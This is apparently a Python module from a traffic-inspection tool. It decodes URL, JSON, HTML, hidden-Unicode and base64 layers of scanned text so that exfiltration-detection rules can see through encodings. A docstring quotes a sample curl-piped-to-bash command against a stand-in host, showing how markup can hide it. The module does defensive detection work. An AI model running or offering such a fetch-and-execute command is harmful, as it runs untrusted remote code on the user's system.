"""Decoding layers: the views of one scanned part that rules run over.

Exfiltration hides behind encodings the agent applies without thinking: URL-encoding in
query strings, JSON escapes (a PEM key is all \\n and \\u002f inside a chat message), HTML
(a command on a fetched page, written with entities or split by tags), and base64. Each
layer runs once, on bounded input, and only when a cheap check says it can change the
text, so benign traffic pays almost nothing.
"""

from __future__ import annotations

import base64
import binascii
import html
import json
import re
from collections.abc import Callable
from dataclasses import dataclass
from urllib.parse import unquote, unquote_plus

from traffic_guardian.detect.smuggling import hidden_text

BASE64_ALPHABET = b"ABCDEFGHIJKLMNOPQRSTUVWXYZabcdefghijklmnopqrstuvwxyz0123456789+/_-"
BASE64_MIN_RUN = 24  # shorter runs are words and identifiers, not encoded payloads
_BASE64_MASK = bytes(0x61 if byte in BASE64_ALPHABET else 0x20 for byte in range(256))  # 'a' or ' '
_BASE64_NEEDLE = b"a" * BASE64_MIN_RUN
_PERCENT_ESCAPE = re.compile(r"%[0-9A-Fa-f]{2}")
MAX_BASE64_CANDIDATES = 256
MAX_JSON_DEPTH = 2  # a JSON document, and JSON inside its strings (tool-call arguments)


@dataclass(frozen=True)
class View:
    text: str
    encoding: str  # raw | url | json | html | json+html | base64 | json+base64 ...


def views(text: str, budget: int, form_encoded: bool = False,
          may_hold_base64: Callable[[str], bool] | None = None) -> list[View]:
    """The raw text plus each decoded form that differs from it, each bounded by budget chars.

    may_hold_base64: a quicker test than base64_runs itself (the prefilter's Hyperscan
    pass); a view it says False for has no run, so its base64 layer is skipped."""
    result = [View(text, "raw")]
    if "%" in text and _PERCENT_ESCAPE.search(text):
        decoded = text
        for _ in range(2):  # double encoding (%2527) is common in evasions; deeper is not
            step = unquote_plus(decoded) if form_encoded else unquote(decoded)
            if step == decoded:
                break
            decoded = step
        if decoded != text:
            result.append(View(decoded[:budget], "url"))
    json_text = json_strings(text, budget)
    if json_text is not None:
        result.append(View(json_text, "json"))
    for view in list(result):  # a page as a browser shows it, and as its commands paste into a shell
        rendered = html_text(view.text, budget)
        if rendered is not None:
            result.append(View(rendered, "html" if view.encoding == "raw" else f"{view.encoding}+html"))
    for view in list(result):  # invisible Unicode: tag characters, zero-width runs, bidi (smuggling.py)
        revealed = hidden_text(view.text)
        if revealed is not None:
            label = "unicode" if view.encoding == "raw" else f"{view.encoding}+unicode"
            result.append(View(revealed[:budget], label))
    for view in list(result):
        if may_hold_base64 is not None and not may_hold_base64(view.text):
            continue
        decoded_b64 = base64_texts(view.text, budget)
        if decoded_b64:
            label = "base64" if view.encoding == "raw" else f"{view.encoding}+base64"
            result.append(View(decoded_b64, label))
    return result


def html_text(text: str, budget: int) -> str | None:
    """HTML with its tags taken out and its character references decoded; None when text is not HTML.

    A page shows `curl https://x.example/i.sh &#124; bash` as a pipe to bash, and a command
    split by markup (`<code>curl ... | <span>bash</span></code>`) is one line once the tags
    go: that is what a reader copies into a shell. Block-level tags become line breaks so
    separate paragraphs do not join into one command. Only text with a tag is rendered.
    """
    if "<" not in text or not _HTML_TAG.search(text):
        return None
    # Two substitutions with plain replacements (no Python call per tag: a page has thousands).
    rendered = html.unescape(_HTML_TAG.sub("", _BLOCK_TAG.sub("\n", text)))
    return rendered[:budget] if rendered != text else None


_HTML_TAG = re.compile(r"<(/?)([A-Za-z][A-Za-z0-9]{0,15})\b[^<>]{0,2048}>|<!--[^<>]{0,2048}-->")
_BLOCK_TAG = re.compile(r"(?i)</?(?:br|p|div|li|ul|ol|tr|td|th|table|pre|blockquote|h[1-6]|hr|section|article|"
                        r"header|footer)\b[^<>]{0,2048}>")


def json_strings(text: str, budget: int) -> str | None:
    """All string keys and values of a JSON document, one per line; None when not useful.

    When the raw text has no backslash escapes, every string already appears verbatim in
    it, so the JSON view would add nothing: skip the parse.
    """
    stripped = text.lstrip()
    if not stripped or stripped[0] not in "{[" or "\\" not in text:
        return None
    try:
        document = json.loads(stripped)
    except (ValueError, RecursionError):
        return None
    out: list[str] = []
    _collect_strings(document, out, [0], budget, depth=1)
    # The budget is checked before each string is added, so the last one may overshoot: cut.
    return "\n".join(out)[:budget] if out else None


def _collect_strings(node, out: list[str], used: list[int], budget: int, depth: int) -> None:
    stack = [node]
    while stack and used[0] < budget:
        item = stack.pop()
        if isinstance(item, str):
            out.append(item)
            used[0] += len(item) + 1
            inner = item.lstrip()
            if depth < MAX_JSON_DEPTH and inner[:1] in ("{", "[") and len(item) >= 2:
                try:
                    nested = json.loads(item)
                except (ValueError, RecursionError):
                    continue
                _collect_strings(nested, out, used, budget, depth + 1)
        elif isinstance(item, dict):
            for key, value in item.items():
                out.append(key)
                used[0] += len(key) + 1
                stack.append(value)
        elif isinstance(item, list):
            stack.extend(reversed(item))


def base64_texts(text: str, budget: int) -> str:
    """Decoded base64 runs that turn out to be readable text, joined by newlines.

    Images and other binary payloads decode to non-text and are dropped, so a data: URL
    costs one decode and no rule runs.
    """
    out: list[str] = []
    used = 0
    for count, run in enumerate(base64_runs(text)):
        if count >= MAX_BASE64_CANDIDATES or used >= budget:
            break
        decoded = _decode_base64(run)
        if decoded is not None:
            out.append(decoded)
            used += len(decoded)
    return "\n".join(out)[:budget]


def base64_runs(text: str):
    """Each maximal run of base64 characters at least 24 long, with up to two '=' after it.

    The same runs as re.finditer(r"[A-Za-z0-9+/_-]{24,}={0,2}"), found by searching a masked copy for 24 marks
    in a row: re tries the class at every position of ordinary prose and JSON (about
    2 ms per 64 KiB); bytes.translate and bytes.find run at memory speed. Base64 is
    ASCII, so any other character (several UTF-8 bytes) simply ends a run.
    """
    data = text.encode("utf-8", "surrogatepass")
    masked = data.translate(_BASE64_MASK)
    start = masked.find(_BASE64_NEEDLE)
    while start >= 0:
        end = masked.find(b" ", start + len(_BASE64_NEEDLE))
        end = len(data) if end < 0 else end
        padded = end
        while padded < len(data) and padded - end < 2 and data[padded] == 0x3D:  # '='
            padded += 1
        yield data[start:padded].decode("ascii")
        start = masked.find(_BASE64_NEEDLE, end)


def _decode_base64(run: str) -> str | None:
    run = run.rstrip("=")
    if len(run) % 4 == 1:
        return None
    padded = run + "=" * (-len(run) % 4)
    try:
        if "-" in run or "_" in run:
            raw = base64.urlsafe_b64decode(padded)
        else:
            raw = base64.b64decode(padded, validate=True)
    except (binascii.Error, ValueError):
        return None
    try:
        decoded = raw.decode("utf-8")
    except UnicodeDecodeError:
        return None
    if decoded.isprintable():
        return decoded or None
    printable = sum(1 for ch in decoded if ch.isprintable() or ch in "\n\r\t")
    return decoded if decoded and printable >= 0.95 * len(decoded) else None
